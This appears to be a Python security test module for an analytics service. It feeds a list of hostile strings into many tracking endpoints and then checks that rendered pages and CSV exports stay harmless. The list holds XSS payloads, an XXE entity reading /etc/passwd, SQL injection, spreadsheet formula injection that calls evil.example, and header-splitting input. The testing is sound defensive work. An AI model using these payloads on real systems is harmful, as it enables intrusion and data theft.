"""
Texts that strangers send, ways in for them, and a reader of pages that tells whether one became more than text.

Each text has its number in it (`zq07`), so that it is found again wherever it is shown.
"""

import csv
import io
import json
import unicodedata
from collections.abc import Iterator, Mapping
from datetime import UTC, datetime
from html.parser import HTMLParser
from typing import Any, NamedTuple
from urllib.parse import quote, urlencode

from live import BROWSER, Answer, Server

_RAW = (
    # Elements and attributes.
    "<script>window.hacked=1</script>",
    "</title></textarea></style></script><script>window.hacked=1</script>",
    '"><img src=x onerror=window.hacked=1>',
    "'><svg/onload=window.hacked=1>",
    '" onmouseover="window.hacked=1" autofocus onfocus="window.hacked=1" x="',
    "' onpointerover='window.hacked=1' x='",
    "` onload=window.hacked=1 x=`",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button formaction=javascript:window.hacked=1>",
    "</bdi></a></th></tr></table><h1>",
    "--><!--><script>window.hacked=1</script><!--",
    "]]><![CDATA[<script>window.hacked=1</script>",
    "<?xml version='1.0'?><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    "&lt;script&gt;window.hacked=1&lt;/script&gt; &#60;b&#62; &amp;",
    "<math><mtext><table><mglyph><style><img src onerror=window.hacked=1>",
    "<a hx-get=/account hx-trigger=load hx-on:click=window.hacked=1 data-stream=/x>",
    # Addresses.
    "javascript:window.hacked=1//",
    "data:text/html,<script>parent.hacked=1</script>",
    "//evil.example/%2e%2e/?a=b&c#d",
    "https://user:password@evil.example/?q=<b>",
    # SVG, CSS, JSON, templates, headers.
    "</text></svg><svg><script>window.hacked=1</script>",
    "x{}*{background:url(//evil.example)}</style>@import '//evil.example';expression(1)",
    '"},"x":{"$ne":1},"__proto__":{"polluted":1}, \\u003cscript\\u003e',
    "{{7*7}}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>",
    "%(num)s %s %d {0} {0.__class__} %n",
    "\\x3cscript\\x3e \\' \\\" \\",
    "' or 1=1; drop table events; --",
    # Formulas.
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\uff1d1+1",
    '=HYPERLINK("//evil.example?x="&A1,"x")',
    # Directions, what is not seen, what looks like something else.
    "\u202emoc.elpmaxe\u202c",
    "\u202e\u202e\u202d\u2067unclosed",
    "\u2066\u2067\u2068isolates",
    "\u05d0\u05d1\u05d2 123 \u0634\u0639",
    "ad\u200bmin\u200c\u200d\ufeff\u2060",
    "\u0430\u0440\u0440\u04cf\u0435",
    "Z\u0351\u036b\u0343\u036a\u0302\u0321\u0334a\u0327\u0330l\u0321g\u0356o",
    "\U000e0041\U000e0042 \U0001f469\u200d\U0001f469 \ufdfd",
    # Controls, lengths, halves.
    "tab\tline\nreturn\rend\x0b\x0c\u2028\u2029\x85",
    "\x00\x01\x07\x08\x1b[31mred\x7f\x9b",
    "\ufffe\uffff\U0001ffff",
    "\ud800half\udfff",
    "w" * 400,
    "%00%0d%0aSet-Cookie:%20x=1%2f..%2f..%c0%af",
)


def marker(number: int) -> str:
    """Return what makes text *number* known wherever it is shown."""
    return f"zq{number:02d}"


TEXTS = tuple(f"{raw}{marker(number)}" for number, raw in enumerate(_RAW))
"""The marker is the end, so that what a cell or an attribute begins with is the stranger's own."""
PLAIN = tuple(f"plain {marker(number)}" for number in range(len(_RAW)))
"""As many that nobody need fear, for a site to compare with."""


def is_printable(text: str) -> bool:
    """Say whether *text* has nothing that a collector may drop or replace."""
    return all(unicodedata.category(letter) not in {"Cc", "Cs", "Cn", "Zl", "Zp"} for letter in text)


class Way(NamedTuple):
    """A way in: what is called, with which body, and with which headers."""

    method: str
    path: str
    body: bytes | None = None
    headers: Mapping[str, str] = {}


def _campaign(text: str) -> str:
    names = ("source", "medium", "campaign", "content", "term")
    return urlencode({f"utm_{name}": text for name in names}, errors="replace")


WIRES = ("own", "batch", "plausible", "umami", "goatcounter", "goatcounter-api", "pixel")
"""The formats; each is the beginning of the paths that come by it."""


def ways_in(domain: str, token: str, text: str) -> Iterator[Way]:
    """Yield a pageview and an event of each wire format, *text* wherever it takes one."""
    own, batch, plausible, umami, count, counts, pixel = (f"/{wire}/{text}" for wire in WIRES)
    more: dict[str, Any]
    query, origin = _campaign(text), {"Origin": f"https://{domain}"}
    came_from = f"https://news.example/{text}"
    what = {"title": text, "referrer": came_from, "query": query, "language": text, "screen": text}
    for more in ({}, {"name": text, "props": {text: text}, "referrer": text}):
        yield Way("POST", "/collect", _json({"path": own, **what, **more}), origin)
        event = {"site": domain, "path": batch, **what, "hostname": text, "ip": "198.51.100.7", **more}
        allowed = {"Authorization": f"Bearer {token}"}
        yield Way("POST", "/api/events", _json({"events": [event]}), allowed)
    address = f"https://{domain}{quote(plausible, errors='replace')}?{query}"
    seen = {"d": domain, "u": address, "r": came_from, "p": {text: text}, "h": 1}
    for name in ("pageview", text):
        yield Way("POST", "/api/event", _json({"n": name, **seen}))
    payload = {
        "website": domain,
        "hostname": text[:100],
        "url": f"{quote(umami, errors='replace')}?{query}",
        "referrer": came_from,
    }
    payload |= {"title": text, "language": text[:35], "screen": text[:11], "tag": text[:50]}
    for more in ({}, {"name": text[:50], "data": {text: text, "in": {text: [text]}}}):
        yield Way("POST", "/api/send", _json({"type": "event", "payload": {**payload, **more}}))
    counted = {"t": text, "r": came_from, "q": query}
    at_page = {"Referer": f"https://{domain}/"}
    for more in ({"p": count}, {"p": text, "e": "1"}):
        yield Way("GET", "/count?" + urlencode({**counted, **more}, errors="replace"), None, at_page)
    hit = {"path": counts, "title": text, "ref": came_from, "query": query, "host": domain}
    body = {
        "no_sessions": True,
        "hits": [{**hit, "ip": "198.51.100.8"}, {**hit, "event": True, "path": text}],
    }
    allowed = {"Authorization": f"Bearer {token}", "Host": domain}
    yield Way("POST", "/api/v0/count", _json(body), allowed)
    shown = {"site": domain, "path": pixel, "title": text, "referrer": came_from, "query": query}
    for more in ({}, {"name": text, f"props.{text}": text}):
        yield Way("GET", "/pixel.gif?" + urlencode({**shown, **more}, errors="replace"))


BROKEN = (b"\xff\xfe<script>", b"\xed\xa0\x80", b"\xc0\xaf..", b"\x00", b"\xf4\x90\x80\x80", b"%ZZ%")
"""Bytes that are no text."""


def send(server: Server, way: Way, address: str) -> Answer:
    """Go *way*, from a browser at *address*."""
    headers = {"User-Agent": BROWSER, "X-Forwarded-For": address, "Content-Type": "application/json"}
    return server.ask(way.method, way.path, way.body, token="", headers={**headers, **way.headers})


def write_site(server: Server, domain: str, texts: tuple[str, ...]) -> None:
    """Send *texts* by every way, and give every name that users give."""
    assert server.ask("POST", "/api/sites", {"domain": domain}).status == 200
    assert server.ask("PATCH", f"/api/sites/{domain}", {"counter": True, "public": True}).status == 200
    today = datetime.now(UTC).date().isoformat()
    for number, text in enumerate(texts):
        for way in ways_in(domain, server.token, text):
            answer = send(server, way, f"198.51.100.{number + 10}")
            assert answer.status in {200, 202, 204, 400}, (way, answer)
            assert answer.status != 400 or not is_printable(text) or len(text) > 100, (way, answer)
    for number, text in enumerate(texts):
        name = text.encode("utf-8", "replace").decode()[-100:]
        for path, body in (
            ("goals", {"event_name": name[:100], "display_name": name}),
            ("segments", {"name": name, "filters": [["is", "event:page", [f"/own/{text}"]]]}),
            ("annotations", {"at": today, "text": name, "author": name}),
            ("shares", {"name": name}),
            ("shields", {"kind": "page", "value": f"/never/{number}", "note": name}),
            ("links", {"kind": "link", "target": f"https://example.com/{quote(name)}"}),
        ):
            answer = server.ask("POST", f"/api/sites/{domain}/{path}", body)
            assert answer.status < 500, (path, answer)
    users = texts[:: max(len(texts) // 12, 1)]
    for number, text in enumerate(users):
        name = text.encode("utf-8", "replace").decode()[-100:]
        body = {"email": f"u{number}@{domain}", "name": name, "role": "viewer"}
        assert server.ask("POST", "/api/users", body).status < 500
        assert server.ask("POST", "/api/tokens/generate", {"name": name, "scopes": ["read"]}).status < 500


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


_ADDRESSES = {
    *"href src action formaction poster xlink:href srcset background data".split(),  # noqa: SIM905 - names
    *"hx-get hx-post hx-push-url data-stream data-live".split(),  # noqa: SIM905 - names
}
_BIDI = {*"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"}
_VOID = {*"area base br col embed hr img input link meta source track wbr".split()}  # noqa: SIM905 - as the standard lists them
# What has no markup in it, and is shown in a place of its own.
_APART = {"title", "option", "textarea", "bdi"}


class Shape(HTMLParser):
    """What a page is made of, as a browser's parser sees it, and which texts are in it."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: set[tuple[str, str]] = set()
        """Each element with each attribute that it has somewhere."""
        self.leads: list[str] = []
        """Every address."""
        self.links: list[str] = []
        """Those that a click or the page itself asks for."""
        self.texts: list[str] = []
        """Every text and value of an attribute."""
        self.loose: list[str] = []
        """Texts that may turn the direction of what is beside them."""
        self.code: list[str] = []
        """What is in elements for scripts and styles."""
        self.odd: list[str] = []
        """Comments and the like."""
        self._open: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note an element."""
        self.parts |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        for name, value in attrs:
            self.texts.append(value or "")
            if name in _ADDRESSES:
                self.leads.append(value or "")
            if name in {"href", "hx-get"}:
                self.links.append(value or "")
        if tag not in _VOID:
            self._open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        """Close the elements up to *tag*."""
        if tag in self._open:
            while self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        """Note a text."""
        self.texts.append(data)
        if {"script", "style"} & set(self._open):
            self.code.append(data)
        if _BIDI & set(data) and not _APART & set(self._open):
            self.loose.append(data)

    def handle_comment(self, data: str) -> None:
        """Note what no template of ours has."""
        self.odd.append(data)

    handle_pi = handle_comment
    unknown_decl = handle_comment

    def said(self) -> str:
        """Return all texts, each run of white space as one space."""
        return " ".join("\n".join(self.texts).split())


def check_harmless(page: str, plain: set[tuple[str, str]], where: str) -> Shape:
    """Return the shape of *page*; it has no element and attribute but those of pages that nobody attacked."""
    shape = Shape(page)
    assert shape.parts <= plain, (where, shape.parts - plain)
    assert not [part for part in shape.parts if part[1].startswith(("on", "hx-on", "style", "srcdoc"))], where
    assert shape.code == [], (where, shape.code)
    assert shape.odd == [], (where, shape.odd)
    # The picture of a second factor's secret is the one address that is not a path.
    odd = [
        lead
        for lead in shape.leads
        if not lead.startswith(("/", "?", "#", "data:image/")) or lead.startswith("//")
    ]
    assert odd == [], (where, odd)
    assert shape.loose == [], (where, shape.loose)
    return shape


def check_spreadsheet(body: bytes, where: str) -> list[list[str]]:
    """Return the rows of a CSV; none of its cells is taken for a formula, and each row has as many as the head."""
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert len({len(row) for row in rows}) == 1, (where, [row for row in rows if len(row) != len(rows[0])])
    for cell in (cell for row in rows for cell in row):
        first = cell.lstrip(
            " \u00a0\ufeff\u200b\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
        )[:1]
        is_number = cell.removeprefix("-").replace(".", "").isdecimal()
        assert is_number or first not in {*"=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"}, (where, cell)
    return rows
